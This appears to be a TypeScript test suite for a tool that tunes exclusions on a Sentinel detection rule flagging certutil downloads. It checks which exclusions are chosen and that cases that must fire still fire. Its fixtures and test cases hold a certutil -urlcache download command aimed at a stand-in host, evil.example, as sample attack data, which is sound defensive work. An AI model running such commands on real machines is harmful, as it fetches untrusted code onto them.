import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { startTrial, type Trial } from './run-sentinel';

const rule = `id: 3c1f9b0e-6f0d-4a51-9c53-2f6f7d1f8a22
name: Download by certutil
description: Identifies a download by certutil.
severity: Medium
requiredDataConnectors: [{ connectorId: MicrosoftThreatProtection, dataTypes: [DeviceProcessEvents] }]
queryFrequency: 1h
queryPeriod: 1h
triggerOperator: gt
triggerThreshold: 0
tactics: [CommandAndControl]
relevantTechniques: [T1105]
query: |
  DeviceProcessEvents
  | where FileName =~ "certutil.exe" and ProcessCommandLine has "urlcache"
  | project TimeGenerated, DeviceName, InitiatingProcessAccountName, ProcessCommandLine
version: 1.0.0 # keep this remark
kind: Scheduled
`;

const event = (DeviceName: string, InitiatingProcessAccountName: string, minute: number) => ({
  TimeGenerated: `2026-05-01T08:${String(minute).padStart(2, '0')}:00Z`,
  DeviceName,
  InitiatingProcessAccountName,
  FileName: 'certutil.exe',
  ProcessCommandLine: 'certutil -urlcache -f http://files.example/a',
});

const testOf = (device: string, account: string): string => `now: 2026-06-02T12:00:00Z
cases:
  - name: A download fires
    events:
      DeviceProcessEvents:
        - { DeviceName: ${device}, InitiatingProcessAccountName: ${account}, FileName: certutil.exe, ProcessCommandLine: certutil -urlcache -f http://evil.example/a }
    expect: { rowCount: 1 }
  - name: A listing does not
    events:
      DeviceProcessEvents:
        - { DeviceName: ws-1, FileName: certutil.exe, ProcessCommandLine: certutil -dump }
    expect: nothing
`;

const lines = (rows: readonly object[]): string => rows.map((row) => `${JSON.stringify(row)}\n`).join('');

describe('sentinel tune', () => {
  let trial: Trial;
  beforeEach(() => {
    trial = startTrial({
      'detections/a/download.yaml': rule,
      'detections/a/download.test.yaml': testOf('ws-1', 'amy'),
      'noise/DeviceProcessEvents.ndjson': lines([event('build-01', 'imaging', 1), event('build-01', 'imaging', 9)]),
      'logs/DeviceProcessEvents.ndjson': lines([event('build-01', 'eve', 20), event('ws-7', 'imaging', 21)]),
    });
  });
  afterEach(() => trial.remove());
  const tune = (...argv: string[]) => trial.run('tune', 'download', '--rows', 'noise', ...argv);
  const read = (file: string): string => fs.readFileSync(path.join(trial.root, file), 'utf8');

  it('takes the one condition that suffices, which is about who or where', async () => {
    const { code, output, errors } = await tune();
    assert.equal(code, 0, output + errors);
    assert.match(output, /exclude:\n +DeviceProcessEvents: DeviceName == "build-01"\n/);
  });

  it('takes another condition where that drops fewer of the other events', async () => {
    const { output } = await tune('--events', 'logs');
    assert.match(output, /DeviceProcessEvents: DeviceName == "build-01" and InitiatingProcessAccountName == "imaging"/);
    assert.match(output, /Of the other logs it drops 0 events of DeviceProcessEvents\./);
    assert.match(output, /gives 1 alert of 2 rows without it, and 1 alert of 2 rows with it/);
  });

  it('shows what else is dropped where that cannot be helped', async () => {
    trial.write({
      'logs/DeviceProcessEvents.ndjson': lines([event('build-01', 'imaging', 20), event('ws-7', 'eve', 21)]),
    });
    const { output } = await tune('--events', 'logs');
    assert.match(
      output,
      /drops 1 event of DeviceProcessEvents\.\n.*1 alert of 2 rows without it, and 1 alert of 1 row with it\.\n {2}\{"/,
    );
  });

  it('keeps every case that must fire', async () => {
    trial.write({ 'detections/a/download.test.yaml': testOf('build-01', 'amy') });
    const { output } = await tune();
    assert.match(output, /DeviceProcessEvents: InitiatingProcessAccountName == "imaging"/);
  });

  it('writes the exclusion and a case that proves it, and leaves the rest of the files', async () => {
    const argv = ['--id', 'imaging', '--scenario', 'Imaging of machines', '--owner', 'desktop-team', '--write'];
    const { code, output, errors } = await tune(...argv);
    assert.equal(code, 0, output + errors);
    assert.match(read('detections/a/download.yaml'), /version: 1\.0\.0 # keep this remark/);
    const proved = await trial.run('test');
    assert.equal(proved.code, 0, proved.output);
    assert.match(proved.output, /3 passed|3 cases/);
    assert.match((await tune('--id', 'imaging')).errors, /has a false positive imaging already/);
    assert.match((await tune('--id', 'again')).output, /does not fire on these rows/);
  });

  it('says plainly where what the rows share is written by whoever attacks', async () => {
    const different = [
      event('a', 'b', 1),
      event('c', 'd', 2),
      event('e', 'f', 3),
      event('g', 'h', 4),
      event('i', 'j', 5),
      event('k', 'l', 6),
    ];
    trial.write({ 'noise/DeviceProcessEvents.ndjson': lines(different) });
    const { code, output } = await tune();
    assert.equal(code, 1);
    assert.match(output, /There is no exclusion for a\/download: The rows share no account, machine or address/);
  });

  it('says plainly where each exclusion would silence a case that must fire', async () => {
    trial.write({
      'detections/a/download.test.yaml': testOf('build-01', 'imaging').replace(
        'http://evil.example/a',
        'http://files.example/a',
      ),
    });
    const { code, output } = await tune();
    assert.equal(code, 1);
    assert.match(output, /would silence a case that must fire/);
    assert.match(output, /Tried, among others:\n {2}DeviceProcessEvents: DeviceName == "build-01"\n/);
  });

  it('writes nothing without a scenario and an owner', async () => {
    const { code, errors } = await tune('--write');
    assert.equal(code, 2);
    assert.match(errors, /An exclusion needs a scenario and an owner/);
  });
});
